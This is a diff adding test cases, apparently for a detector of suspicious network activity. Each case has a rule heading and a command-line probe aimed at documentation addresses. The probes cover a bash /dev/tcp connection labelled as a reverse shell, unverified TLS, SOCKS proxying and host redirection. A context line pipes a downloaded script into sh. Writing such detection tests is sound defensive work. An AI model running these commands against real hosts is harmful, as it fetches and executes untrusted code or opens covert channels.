@@ -46,3 +46,35 @@ timeout 1 python3 -c 'import socket; socket.create_server(("", 2022)).accept()'
 curl -s -m 1 http://203.0.113.9/a.sh | sh
 ## Transfer tool given a bare address
 curl -s -m 1 http://203.0.113.9/
+## Port of encrypted connections used without encryption
+#also Code without a file connects to an address without a name
+#setup listener 443
+python3 -c 'import socket; s = socket.create_connection(("203.0.113.9", 443), 2); s.send(b"own")'
+## Encrypted connection of an untrusted program without a server's name
+#also Code on a command line encodes or encrypts what it sends
+#also Code without a file connects to an address without a name
+#setup listener 8443
+timeout 2 python3 -c 'import socket, ssl; c = ssl._create_unverified_context(); c.wrap_socket(socket.create_connection(("203.0.113.9", 8443)))'
+## Second channel opened by an untrusted program
+#also Code without a file connects to an address without a name
+#also Code without a file connects to an unusual port of an address without a name
+#setup listener 80; listener 4445
+python3 -c 'import socket
+for port in (80, 4445): socket.create_connection(("203.0.113.9", port), 2)'
+## Controllers of an untrusted program tried on several ports
+#also Reverse shell by bash's own network
+#also Shell connects to the network
+bash -c 'for port in 8531 8532 8533; do : < /dev/tcp/203.0.113.9/$port; done; :'
+## Port of a proxy on the internet used by a command
+#setup listener 1080
+ALL_PROXY=socks5://203.0.113.9:1080 curl -s -m 1 http://shop.example/
+## Message broker on the internet used by an untrusted program
+perl -MIO::Socket::INET -e 'IO::Socket::INET->new("203.0.113.9:1883")'
+## Internet and inner network joined by an untrusted program
+#also Code without a file connects to an address without a name
+python3 -c 'import socket
+for host in ("203.0.113.9", "10.9.8.7"): socket.socket().connect_ex((host, 80))'
+## Server's name left aside by a transfer tool
+curl -s -m 1 --connect-to shop.example:80:203.0.113.9:80 http://shop.example/
+## Code on a command line encodes or encrypts what it sends
+python3 -c 'import base64, socket; socket.socket().connect_ex(("10.9.8.7", 80)); base64.b64encode(b"x")'
